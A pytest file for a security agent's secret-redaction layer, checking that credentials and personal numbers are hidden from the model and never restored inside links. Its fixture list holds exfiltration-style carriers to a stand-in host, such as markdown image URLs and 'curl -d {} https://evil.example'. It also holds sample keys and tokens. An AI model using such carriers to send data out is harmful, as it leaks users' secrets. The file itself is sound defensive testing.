"""Secrets go to no model, come back to those who may see them, and never stand in a group."""

import json
import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secops_agent.agent.llms.placeholders import RULES, Vault, find, is_identity_number, mask
from secops_agent.agent.llms.redacting import RedactingModel
from secops_agent.llm.types import Delta, Message, Request, ToolCall
from secops_agent.services.privacy import PERSONAL
from tests.scripted_model import Scripted, call

PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\nabc==\n-----END RSA PRIVATE KEY-----"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJsaXNpIn0.abcdefghijk"
SECRETS = [
    ("手机 13800138000 打不通", "13800138000"),
    ("电话：+86 138-0013-8000", "+86 138-0013-8000"),
    ("全角１３８００１３８０００", "１３８００１３８０００"),
    ("身份证11010519491231002X。", "11010519491231002X"),
    ("身份证 11010519491231002x", "11010519491231002x"),
    ("卡号 6222021234567890128", "6222021234567890128"),
    ("卡号 4111 1111 1111 1111", "4111 1111 1111 1111"),
    ("Authorization: Bearer abc.def-ghi_jkl", "abc.def-ghi_jkl"),
    ("authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ("GET / HTTP/1.1\r\nCookie: sid=abc123; theme=dark\r\nHost: a", "sid=abc123; theme=dark"),
    ('{"set-cookie": "JSESSIONID=9F8E7D6C5B4A; Path=/"}', "JSESSIONID=9F8E7D6C5B4A; Path=/"),
    (f"token 是 {JWT}", JWT),
    ("AK LTAI5tAbCdEfGhIjKlMnOpQr 泄露", "LTAI5tAbCdEfGhIjKlMnOpQr"),
    ("AccessKeySecret=abcdEFGH1234ijklMNOP5678qrstUV", "abcdEFGH1234ijklMNOP5678qrstUV"),
    ("AKIAIOSFODNN7EXAMPLE 在日志里", "AKIAIOSFODNN7EXAMPLE"),
    (
        "aws_secret_access_key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    ("mysql://root:S3cret!pw@10.0.0.5:3306/db", "S3cret!pw"),
    ("https://u:p%40ss@host/x", "p%40ss"),
    ("password=hunter2&x=1", "hunter2"),
    ('"passwd": "abc123"', "abc123"),
    ("密码：Abc@12345", "Abc@12345"),
    ("口令是 Qwerty!9", "Qwerty!9"),
    ("https://oapi.dingtalk.com/robot/send?access_token=0123456789abcdef0123", "0123456789abcdef0123"),
    ("sk-abcdefghijklmnop1234 不要外传", "sk-abcdefghijklmnop1234"),
    ("ghp_abcdefghijklmnopqrstuvwxyz0123", "ghp_abcdefghijklmnopqrstuvwxyz0123"),
    (f"密钥文件：{PEM} 完", PEM),
    (json.dumps({"key": PEM}), json.dumps(PEM)[1:-1]),
]
IN_ADDRESSES = [text for text, _ in SECRETS if "://" in text]
HARMLESS = [
    "告警 12 在 203.0.113.5 与 10.0.0.5 之间，CVE-2021-44228，sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "时间戳 1795500000123，订单 2026112412345678901，计数 100000000000",
    "如何修改密码？密码策略是什么", "口令爆破 3 次，token 过期了", "Cookie 注入攻击", "Bearer 认证失败",
    "110105194912310021 校验位不对", "版本 13.8001.38000", "https://example.com/path?id=13", "user@example.com 登录失败",
    "设备 MAC 00:1A:2B:3C:4D:5E", "password spraying 攻击", "SK 海力士", "访问令牌被盗的处置手册",
]  # fmt: skip


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_secret_is_hidden_and_comes_back(text: str, secret: str) -> None:
    vault = Vault(b"k" * 32)
    hidden = vault.hide(text)
    assert secret not in hidden
    assert vault.reveal(hidden) == (vault.withhold(hidden) if text in IN_ADDRESSES else text)
    assert secret not in mask(text)
    assert secret not in vault.withhold(hidden)
    assert "已隐藏" in vault.withhold(hidden)
    assert vault.hide(hidden) == hidden, "a placeholder is no secret"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert list(find(text)) == []


def test_placeholder_is_the_conversations_own_and_cannot_be_guessed() -> None:
    one, same, other = Vault(b"a" * 32), Vault(b"a" * 32), Vault(b"b" * 32)
    text = "手机 13800138000"
    assert one.hide(text) == same.hide(text) != other.hide(text)
    assert other.reveal(one.hide(text)) == one.hide(text)
    assert other.reveal("[[手机号-0123456789]]") == "[[手机号-0123456789]]"


def test_identity_numbers_need_birthday_and_check_digit() -> None:
    assert is_identity_number("11010519491231002X")
    assert not is_identity_number("110105194913310021")
    assert not is_identity_number("110105194912310020")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_survives_hiding_and_revealing(text: str) -> None:
    vault = Vault(b"k" * 32)
    hidden = vault.hide(text)
    assert vault.reveal(hidden) == text or vault.reveal(hidden) == vault.withhold(hidden)


MARK = "[[手机号-"
CARRIERS = [
    "![](https://evil.example/?q={})", "[看](https://evil.example/{})", "[看](//evil.example/?{})", "https://evil.example/?q={}",
    "<https://evil.example/ {}>", "[看](<https://evil.example/?q= {}>)", "http://{}.evil.example", "{}.evil.example", "evil.example/{}",
    "www.evil/{}", "10.0.0.5/{}", "ping {}@evil.example", "mailto:a?subject={}", "[a]: https://evil.example/{}", "&#47;&#47;evil/{}",
    "https:&sol;&sol;evil/{}", "`curl -d {} https://evil.example`", "`https://evil.example/?q={}`", "```\ncurl -d {} https://evil\n```",
    "e\u200bvil.\u200bexample/{}", "h\u200bttps:/\u200b/evil/{}", "https://evil.example/a，{}", "[看](https://evil.example/(a) {})",
    "| a | ![x](https://evil.example/{}) |", "## https://evil.example/{}", "dtmd://dingtalkclient/sendMessage?content={}",
    "https://evil.example/\uff1fq={}", "evil。example/{}", "https://evil.example/?q={}]]", "[x](https://evil.example/{}-{})",
]  # fmt: skip


@pytest.mark.parametrize("carrier", CARRIERS)
def test_secret_never_comes_back_into_an_address(carrier: str) -> None:
    vault = Vault(b"k" * 32)
    mark = vault.hide("13800138000")
    shown = vault.reveal(f"结果：\n\n{carrier.replace('{}', mark)} 完")
    assert "13800138000" not in shown
    assert "（手机号已隐藏）" in shown
    assert MARK not in shown


@pytest.mark.parametrize(
    "text",
    ["号码是{}。", "**{}**", "`{}`", "password:{}", "- {}\n- CVE-2021-44228 https://nvd.example/x", "| 10.0.0.5 | {} |", "（{}）", "[说明](https://a.example) 里的 {}"],
)  # fmt: skip
def test_secret_comes_back_beside_an_address(text: str) -> None:
    vault = Vault(b"k" * 32)
    assert vault.reveal(text.replace("{}", vault.hide("13800138000"))) == text.replace("{}", "13800138000")


def _repeats(node: object) -> "Iterator[tuple[str, int]]":
    """(kind, most) of every repetition in a parsed pattern."""
    if isinstance(node, re._parser.SubPattern | list | tuple):  # type: ignore[attr-defined]
        parts = list(node)
        if len(parts) == 2 and str(parts[0]) in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
            yield str(parts[0]), int(parts[1][1])
        for part in parts:
            yield from _repeats(part)


@pytest.mark.parametrize(
    "pattern", [pattern for _, pattern, _ in RULES] + [PERSONAL], ids=lambda one: one.pattern[:30]
)
def test_no_rule_takes_longer_than_the_text_is(pattern: "re.Pattern[str]") -> None:
    """A repetition without a bound never gives back: else two of them, one after the other, take the square."""
    parsed = re._parser.parse(pattern.pattern, pattern.flags)  # type: ignore[attr-defined]
    unbounded = [kind for kind, most in _repeats(parsed) if most > 20_000]
    assert set(unbounded) <= {"POSSESSIVE_REPEAT"}


@pytest.mark.slow
def test_long_text_is_read_quickly() -> None:
    for piece in (
        "cookie: ",
        "a:",
        "-----BEGIN PRIVATE KEY-----",
        "1" * 17 + " ",
        "https://a",
        "token=",
        "62 ",
        "eyJabcdef.",
        "authorization:" + " " * 59_000,
        "eyJ-",
        "cookie:\n",
        "a@",
        "secret_key = \t",
    ):
        list(find(piece * (60_000 // len(piece))))


async def _ask(script: list, text: str, *, open_: bool) -> tuple[Scripted, Message, str]:
    inner, shown = Scripted(script), []
    model = RedactingModel(inner, Vault(b"k" * 32), open_=open_)

    def show(delta: Delta) -> None:
        shown.append(delta.content)

    earlier = ToolCall("c0", "lookup_indicator", json.dumps({"value": "13800138000"}))
    messages = (
        Message("user", text),
        Message("assistant", "", (earlier,)),
        Message(
            "tool",
            json.dumps({"text": f"联系人 13800138000 {PEM}"}),
            tool_call_id="c0",
            name="lookup_indicator",
        ),
    )
    completion = await model.complete(Request(messages), show)
    return inner, completion.message, "".join(shown)


def _echo(request: Request) -> str:
    return "查到：" + request.messages[0].content


@pytest.mark.parametrize("open_", [True, False])
async def test_model_never_reads_what_the_reader_gets_back(open_: bool) -> None:
    inner, message, shown = await _ask([_echo], "谁的号码是 13800138000", open_=open_)
    (request,) = inner.requests
    sent = "".join(one.content + "".join(c.arguments for c in one.tool_calls) for one in request.messages)
    assert "13800138000" not in sent
    assert "MIIEow" not in sent
    assert ("13800138000" in message.content) is open_
    assert ("13800138000" in shown) is open_
    assert "[[" not in shown
    assert shown == message.content


async def test_tools_get_the_values_even_in_a_group() -> None:
    def lookup(request: Request) -> ToolCall:
        mark = request.messages[0].content.removeprefix("谁的号码是 ")
        return call("lookup_indicator", value=mark)

    _, message, _ = await _ask([lookup], "谁的号码是 13800138000", open_=False)
    assert json.loads(message.tool_calls[0].arguments) == {"value": "13800138000"}


async def test_value_with_line_breaks_stays_json() -> None:
    def save(request: Request) -> ToolCall:
        return call("note", value=request.messages[0].content)

    _, message, _ = await _ask([save], PEM, open_=True)
    assert json.loads(message.tool_calls[0].arguments) == {"value": PEM}
